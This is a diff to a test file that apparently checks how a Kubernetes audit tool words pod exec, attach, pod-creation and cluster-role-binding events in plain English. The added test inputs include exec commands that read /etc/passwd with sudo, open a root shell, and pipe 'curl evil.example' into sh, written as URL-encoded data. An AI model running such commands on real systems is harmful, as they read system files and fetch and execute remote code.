@@ -45,6 +45,13 @@ describe('one deed', () => {
       'opened a shell in pod web-0 of payments',
     ],
     [stream('exec', '?command=cat&command=/etc/passwd'), 'ran cat in pod web-0 of payments'],
+    [stream('exec', '?command=sudo&command=cat&command=/etc/passwd'), 'ran cat in pod web-0 of payments'],
+    [stream('exec', '?command=sudo&command=bash'), 'opened a shell in pod web-0 of payments'],
+    [stream('exec', '?command=sudo&command=-l'), 'ran sudo in pod web-0 of payments'],
+    [
+      stream('exec', '?command=sh&command=-c&command=true%3B+curl+evil.example+%7C+sh'),
+      'ran commands in pod web-0 of payments',
+    ],
     [stream('exec', '?command=%3Cscript%3E'), 'ran a command in pod web-0 of payments'],
     [stream('exec'), 'ran a command in pod web-0 of payments'],
     [stream('attach'), 'attached to pod web-0 of payments'],
@@ -90,6 +97,32 @@ describe('one deed', () => {
         { verb: 'create', resource: 'pods', risk: dangerous, names: ['b'] },
       ),
     ).toBe('created 2 dangerous pods in payments');
+  });
+
+  it('says of many what it would say of one, and of none what only others are', () => {
+    const applied = anApplied({ dangerous: ['privileged'] });
+    const pods = { verb: 'create', resource: 'pods' };
+    expect(did({ ...pods, applied, count: 2 })).toBe('created privileged pods in payments');
+    expect(did({ ...pods, names: ['a'] }, { ...pods, names: ['b'], applied })).toBe(
+      'created 2 pods (some dangerous) in payments',
+    );
+    // One object, written twice.
+    expect(did({ ...pods, names: ['a'] }, { ...pods, names: ['a'], applied })).toBe(
+      'created dangerous pod a in payments',
+    );
+    const binding = (role: string, over: Partial<RankedCall> = {}) => ({
+      verb: 'create',
+      resource: 'clusterrolebindings',
+      namespace: null,
+      applied: anApplied({ role: `ClusterRole/${role}` }),
+      ...over,
+    });
+    expect(did(binding('cluster-admin', { count: 2 }))).toBe(
+      'created cluster role bindings to cluster-admin',
+    );
+    expect(did(binding('admin', { names: ['a'] }), binding('view', { names: ['b'] }))).toBe(
+      'created 2 cluster role bindings to admin and 1 more',
+    );
   });
 
   it.each([
